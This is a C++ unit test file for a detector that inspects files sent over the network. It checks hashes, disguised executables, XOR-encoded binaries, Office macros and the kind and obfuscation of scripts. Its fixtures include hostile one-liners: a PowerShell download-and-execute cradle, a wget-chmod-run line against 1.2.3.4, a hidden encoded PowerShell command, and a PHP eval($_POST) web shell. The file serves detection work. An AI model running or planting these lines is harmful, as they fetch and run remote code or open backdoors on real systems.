// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/base/digest.h"
#include "core/file/file_consumer.h"
#include "tests/file/file_samples.h"
#include "tests/protocol/recording_host.h"

#include <gtest/gtest.h>

using namespace metsuke;

namespace {

struct Claim {
    std::string filename = {};
    std::string mimeType = {};
    std::string uri = "/";
};

FilesEvent analyze(const std::string& content, const Claim& claim, size_t chunk) {
    RecordingHost host;
    FileTransfer transfer;
    transfer.source = "HTTP";
    transfer.filename = claim.filename;
    transfer.mimeType = claim.mimeType;
    transfer.uri = claim.uri;
    auto consumer = makeFileConsumer(std::move(transfer), host);
    const Bytes bytes = asBytes(content);
    for (size_t at = 0; at < bytes.size(); at += chunk) {
        consumer->data(bytes.subspan(at, std::min(chunk, bytes.size() - at)));
    }
    const FileVerdict verdict = consumer->finish(true);
    const auto events = host.of<FilesEvent>();
    EXPECT_EQ(events.size(), 1U);
    EXPECT_EQ(verdict.magic, events.at(0).magic);
    return events.at(0);
}

/// Analyses whole and in pieces; both must agree.
FilesEvent analyze(const std::string& content, const Claim& claim = {}) {
    FilesEvent whole = analyze(content, claim, 1 << 20);
    for (const size_t chunk : {7U, 1000U, 65'536U}) {
        const FilesEvent pieces = analyze(content, claim, chunk);
        for (const auto& field : fieldsOf(EventKind::Files)) {
            EventBody a = whole;
            EventBody b = pieces;
            const FieldValue left = field.get(a);
            const FieldValue right = field.get(b);
            if (const auto* list = std::get_if<std::span<const std::string>>(&left)) {
                const auto& other = std::get<std::span<const std::string>>(right);
                EXPECT_TRUE(std::equal(list->begin(), list->end(), other.begin(), other.end())) << field.name;
            } else if (const auto* text = std::get_if<std::string_view>(&left)) {
                EXPECT_EQ(*text, std::get<std::string_view>(right)) << field.name << " in pieces of " << chunk;
            } else {
                EXPECT_EQ(left.index(), right.index()) << field.name;
            }
        }
        EXPECT_EQ(whole.embedded_exe, pieces.embedded_exe);
        EXPECT_EQ(whole.xor_exe, pieces.xor_exe);
        EXPECT_EQ(whole.obfuscation, pieces.obfuscation);
    }
    return whole;
}

std::string base64(const std::string& in) {
    static const std::string kAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    for (size_t i = 0; i + 2 < in.size(); i += 3) {
        const auto at = [&](size_t k) { return static_cast<uint32_t>(static_cast<uint8_t>(in[i + k])); };
        const uint32_t bits = at(0) << 16 | at(1) << 8 | at(2);
        for (const int shift : {18, 12, 6, 0}) {
            out.push_back(kAlphabet[bits >> shift & 63]);
        }
    }
    return out;
}

std::string noise(size_t size) {
    std::string text;
    uint32_t state = 12345;
    for (size_t i = 0; i < size; ++i) {
        state = state * 1664525 + 1013904223;
        text.push_back(static_cast<char>(state >> 24));
    }
    return text;
}

const std::string kPng = std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16) + std::string(2000, '\x11');

} // namespace

TEST(FileAnalyzer, Pe_hasHeaderFactsAndHashes) {
    const std::string file = makePe({.characteristics = 0x2102, .hasSignature = true});
    const auto event = analyze(file, {"setup.exe", "application/octet-stream"});
    EXPECT_EQ(event.magic, "pe");
    EXPECT_TRUE(event.is_exec);
    EXPECT_EQ(event.pe_machine, "i386");
    EXPECT_TRUE(event.pe_dll);
    EXPECT_TRUE(event.pe_signed);
    EXPECT_FALSE(event.pe_packed);
    EXPECT_EQ(event.pe_sections, 1);
    EXPECT_EQ(event.pe_compile_ts, 1'600'000'000);
    EXPECT_FALSE(event.ext_mismatch);
    EXPECT_FALSE(event.mime_mismatch);
    EXPECT_EQ(event.sha256, Digest::hex(DigestKind::Sha256, asBytes(file)));
    EXPECT_EQ(event.sha1, Digest::hex(DigestKind::Sha1, asBytes(file)));
    EXPECT_EQ(event.md5, Digest::hex(DigestKind::Md5, asBytes(file)));
    EXPECT_EQ(event.seen_bytes, static_cast<int64_t>(file.size()));
    EXPECT_TRUE(event.complete);
    EXPECT_EQ(event.direction, "download");
}

TEST(FileAnalyzer, PackedPe_isFlagged) {
    EXPECT_TRUE(analyze(makePe({.section = "UPX0"})).pe_packed);
    EXPECT_TRUE(analyze(makePe({.code = noise(8192)})).pe_packed);
}

TEST(FileAnalyzer, DisguisedPe_isAMismatch) {
    const auto event = analyze(makePe(), {{}, "image/png", "http://h/images/logo.png?x=1.exe"});
    EXPECT_EQ(event.ext, "png");
    EXPECT_EQ(event.filename, "logo.png");
    EXPECT_TRUE(event.ext_mismatch);
    EXPECT_TRUE(event.mime_mismatch);
    EXPECT_TRUE(analyze(makePe(), {"a.con", {}}).ext_mismatch);
    EXPECT_FALSE(analyze(makePe(), {{}, {}, "/download.php?id=1"}).ext_mismatch);
    EXPECT_TRUE(analyze(makeZipMember("a", "b") + zipEnd(), {"a.jpg", "image/jpeg"}).mime_mismatch);
}

TEST(FileAnalyzer, Zip_listsMembers) {
    const auto event = analyze(makeZipMember("a.js", "abc") + makeZipMember("dir/b.exe", noise(70'000), 9) + makeZipMember("c", "d") + zipEnd());
    EXPECT_EQ(event.magic, "zip");
    EXPECT_TRUE(event.is_archive);
    EXPECT_TRUE(event.encrypted_archive);
    EXPECT_EQ(event.archive_members, (std::vector<std::string>{"a.js", "dir/b.exe", "c"}));
}

TEST(FileAnalyzer, ZipContainers_areToldApart) {
    const auto jar = analyze(makeZipMember("META-INF/MANIFEST.MF", "x") + makeZipMember("A.class", "y") + zipEnd());
    EXPECT_EQ(jar.magic, "jar");
    EXPECT_TRUE(jar.is_exec);
    const auto office = analyze(makeZipMember("[Content_Types].xml", "x") + makeZipMember("word/vbaProject.bin", "y") + zipEnd());
    EXPECT_EQ(office.magic, "office");
    EXPECT_TRUE(office.macro);
    EXPECT_FALSE(office.is_archive);
}

TEST(FileAnalyzer, HiddenPe_isFound) {
    EXPECT_TRUE(analyze(kPng + makePe()).embedded_exe);
    EXPECT_FALSE(analyze(kPng).embedded_exe);
    EXPECT_TRUE(analyze("<html><body><script>var a='" + base64(makePe()) + "';</script>").embedded_exe);
    EXPECT_TRUE(analyze(std::string(16, '\1') + makePe()).embedded_exe);
    EXPECT_FALSE(analyze("<html>This program cannot be run in DOS mode is what it said</html>").embedded_exe);
}

TEST(FileAnalyzer, XoredPe_isFound) {
    std::string one = makePe();
    for (auto& c : one) {
        c = static_cast<char>(c ^ 0x5a);
    }
    EXPECT_TRUE(analyze(one).xor_exe);
    EXPECT_TRUE(analyze(noise(100) + one).xor_exe);
    std::string four = makePe();
    const std::string key = "\x12\xa7\x03\xfe";
    for (size_t i = 0; i < four.size(); ++i) {
        four[i] = static_cast<char>(four[i] ^ key[i % 4]);
    }
    EXPECT_TRUE(analyze(four).xor_exe);
    EXPECT_FALSE(analyze(noise(8000)).xor_exe);
    EXPECT_FALSE(analyze(makePe()).xor_exe);
}

TEST(FileAnalyzer, Documents_showMacrosAndObjects) {
    const std::string ole("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
    const auto wide = [](const std::string& text) {
        std::string out;
        for (const char c : text) {
            out += std::string(1, c) + '\0';
        }
        return out;
    };
    const auto word = analyze(ole + std::string(1000, '\0') + wide("WordDocument") + wide("_VBA_PROJECT"));
    EXPECT_EQ(word.magic, "office");
    EXPECT_TRUE(word.macro);
    EXPECT_FALSE(analyze(ole + std::string(1000, '\0') + wide("WordDocument")).macro);
    EXPECT_TRUE(analyze("{\\rtf1{\\object\\objocx{\\*\\objdata 4571756174696f6e2e33}}}").macro);
    EXPECT_FALSE(analyze("{\\rtf1 hello}").macro);
}

TEST(FileAnalyzer, Scripts_haveKindAndObfuscation) {
    const auto ps = analyze("$c = New-Object Net.WebClient; $s=$c.DownloadString('http://x/a'); IEX ($s)\nStart-Sleep 5\n");
    EXPECT_EQ(ps.script_kind, "powershell");
    EXPECT_TRUE(ps.is_script);
    EXPECT_LT(ps.obfuscation, 0.5);
    std::string wrapped = "powershell -nop -w hidden -encodedcommand ";
    wrapped += "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    EXPECT_GE(analyze("@echo off\r\n" + wrapped).obfuscation, 0.7);
    EXPECT_EQ(analyze("#!/bin/sh\nwget http://1.2.3.4/mips; chmod +x mips; ./mips\n").script_kind, "sh");
    EXPECT_EQ(analyze("On Error Resume Next\nDim a\nSet s = CreateObject(\"WScript.Shell\")\ns.Run Chr(99)\nEnd Sub\n").script_kind, "vbs");
    EXPECT_EQ(analyze("var s = new ActiveXObject('WScript.Shell'); s.Run('cmd');").script_kind, "jscript");
    EXPECT_EQ(analyze("(function(){var a=document.getElementById('x');return a;})();").script_kind, "js");
    EXPECT_EQ(analyze("<html><hta:application id=x><script>x</script>").script_kind, "hta");
    EXPECT_EQ(analyze("<?php @eval($_POST['x']);?>").script_kind, "php");
    std::string chars = "eval(String.fromCharCode(";
    for (int i = 0; i < 200; ++i) {
        chars += std::to_string(60 + i % 60) + ",";
    }
    EXPECT_GE(analyze("var s=new ActiveXObject('WScript.Shell');" + chars + "0));").obfuscation, 0.4);
}

TEST(FileAnalyzer, Elf_hasItsMachine) {
    const auto event = analyze(std::string("\x7f"
                                           "ELF\1\2\1\0\0\0\0\0\0\0\0\0\0\2\0\x08",
                                   20)
        + std::string(100, '\0'));
    EXPECT_EQ(event.magic, "elf");
    EXPECT_EQ(event.elf_machine, "mips");
}

TEST(FileAnalyzer, Gap_leavesNoHash) {
    RecordingHost host;
    auto consumer = makeFileConsumer({}, host);
    const std::string file = makePe();
    consumer->data(asBytes(file).first(2000));
    consumer->gap(500);
    consumer->data(asBytes(file).subspan(2500));
    consumer->finish(true);
    const auto event = host.of<FilesEvent>().at(0);
    EXPECT_EQ(event.magic, "pe");
    EXPECT_FALSE(event.complete);
    EXPECT_EQ(event.sha256, "");
}

TEST(FileAnalyzer, EmptyFile_isUnknown) {
    const auto event = analyze("");
    EXPECT_EQ(event.magic, "");
    EXPECT_EQ(event.entropy, -1);
}
